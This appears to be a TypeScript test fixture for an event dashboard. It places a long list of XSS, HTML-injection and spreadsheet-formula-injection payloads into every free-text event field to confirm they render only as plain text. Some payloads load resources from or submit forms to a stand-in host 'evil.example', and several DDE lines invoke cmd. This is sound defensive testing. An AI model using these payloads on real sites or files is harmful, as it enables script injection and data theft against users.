/** Texts that mean harm, each of another kind: what is shown of them must be text and nothing else. */
import type { EventRecord } from "../../src/model/event.ts";
import { eventMaker } from "./page-event.ts";

/** Each says its own number, by which it is found on the page. */
const texts: readonly ((mark: string) => string)[] = [
  (m) => `<script>alert("${m}")</script>`,
  (m) => `"><script>alert("${m}")</script>`,
  (m) => `'><script>alert('${m}')</script>`,
  (m) => `</script><script>alert("${m}")</script>`,
  (m) => `</title><script>alert("${m}")</script>`,
  (m) => `</textarea><script>alert("${m}")</script>`,
  (m) => `</style><script>alert("${m}")</script>`,
  (m) => `--><script>alert("${m}")</script>`,
  (m) => `]]><script>alert("${m}")</script>`,
  (m) => `<scr<script>ipt>alert("${m}")</scr</script>ipt>`,
  (m) => `<ScRiPt>alert("${m}")</sCrIpT>`,
  (m) => `<script src=//evil.example/${m}.js></script>`,
  (m) => `<script type=module>alert("${m}")</script>`,
  (m) => `<script\u0000>alert("${m}")</script>`,
  (m) => `<img src=x onerror=alert("${m}")>`,
  (m) => `"><img src=x onerror=alert("${m}")>`,
  (m) => `<img src=x:x onerror\u000b=alert("${m}")>`,
  (m) => `<img/src='x'/onerror='alert("${m}")'>`,
  (m) => `<image href=x onerror=alert("${m}")>`,
  (m) => `<img src=https://evil.example/${m}.png>`,
  (m) => `<img srcset="https://evil.example/${m}.png 1x">`,
  (m) => `<svg onload=alert("${m}")>`,
  (m) => `<svg/onload=alert("${m}")//`,
  (m) => `<svg><script>alert("${m}")</script></svg>`,
  (m) => `<svg><animate onbegin=alert("${m}") attributeName=x dur=1s>`,
  (m) => `<svg><a href="javascript:alert('${m}')"><text>x</text></a></svg>`,
  (m) => `<svg><use href="data:image/svg+xml,<svg id=x onload=alert('${m}')>#x"/></svg>`,
  (m) => `<svg><foreignObject><iframe srcdoc="<script>alert('${m}')</script>">`,
  (m) => `<math><mtext><table><mglyph><style><img src=x onerror=alert("${m}")>`,
  (m) => `<math href="javascript:alert('${m}')">x</math>`,
  (m) => `<iframe src="javascript:alert('${m}')"></iframe>`,
  (m) => `<iframe srcdoc="<script>alert('${m}')</script>"></iframe>`,
  (m) => `<object data="javascript:alert('${m}')"></object>`,
  (m) => `<embed src="javascript:alert('${m}')">`,
  (m) => `<base href="https://evil.example/${m}/">`,
  (m) => `<meta http-equiv=refresh content="0;url=https://evil.example/${m}">`,
  (m) => `<link rel=stylesheet href=https://evil.example/${m}.css>`,
  (m) => `<style>@import "https://evil.example/${m}.css"</style>`,
  (m) => `<div style="background:url(https://evil.example/${m})">x</div>`,
  (m) => `<form action=https://evil.example/${m}><button autofocus>x</button></form>`,
  (m) => `<input autofocus onfocus=alert("${m}")>`,
  (m) => `<details open ontoggle=alert("${m}")>x</details>`,
  (m) => `<video><source onerror=alert("${m}")></video>`,
  (m) => `<audio src=x onerror=alert("${m}")></audio>`,
  (m) => `<body onload=alert("${m}")>`,
  (m) => `<marquee onstart=alert("${m}")>x</marquee>`,
  (m) => `<template><script>alert("${m}")</script></template>`,
  (m) => `<noscript><p title="</noscript><img src=x onerror=alert('${m}')>"></noscript>`,
  (m) => `<a href="javascript:alert('${m}')">press</a>`,
  (m) => `<a href="java&#x09;script:alert('${m}')">press</a>`,
  (m) => `javascript:alert("${m}")`,
  (m) => `JaVaScRiPt://%0aalert("${m}")`,
  (m) => `data:text/html,<script>alert("${m}")</script>`,
  (m) => `" onmouseover="alert('${m}')" x="`,
  (m) => `' autofocus onfocus='alert("${m}")`,
  (m) => `&lt;script&gt;alert("${m}")&lt;/script&gt;`,
  (m) => `%3Cscript%3Ealert("${m}")%3C/script%3E`,
  (m) => `\\u003cscript\\u003ealert("${m}")\\u003c/script\\u003e`,
  (m) => `{{constructor.constructor('alert("${m}")')()}}`,
  (m) => `\${alert("${m}")}`,
  (m) => `=HYPERLINK("https://evil.example/${m}","press")`,
  (m) => `=cmd|' /C calc ${m}'!A0`,
  (m) => `@SUM(1+1)*cmd|'${m}'!A0`,
  (m) => `+1+cmd|'${m}'!A0`,
  (m) => `-1+cmd|'${m}'!A0`,
  (m) => `\t=1+1 ${m}`,
  (m) => `\r=1+1 ${m}`,
];

export const hostileTexts = texts.map((textOf, index) => {
  const mark = `zq${String(index).padStart(2, "0")}`;
  return { mark, text: textOf(mark) };
});

/** So many texts are of one service, so that all of them are on the screen at once. */
export const perService = 24;
export const serviceOf = (index: number): string => `svc-${Math.floor(index / perService)}`;

/** Each text in every field that takes free words, by the protocol: a run that failed, and a line. */
export function hostileEvents(nowMs: number): readonly EventRecord[] {
  return hostileTexts.flatMap(({ text }, index) => {
    const made = eventMaker({
      service: serviceOf(index),
      host: text.slice(0, 255),
      queue: text,
      actor: text,
      attributes: { [text]: text, list: [text] },
    });
    const run = { job: text, run_id: `${index} ${text}`.slice(0, 128), attempt: 1, worker: text };
    const error = { error_class: text, error_message: text, error_stack: `${text}\n${text}` };
    const atMs = nowMs - 60_000 - index * 100;
    return [
      made(atMs, "job.started", run),
      made(atMs + 10, "job.failed", { ...run, ...error, severity: "error" }),
      made(atMs + 20, "log", { message: text, severity: "warn" }),
    ];
  });
}
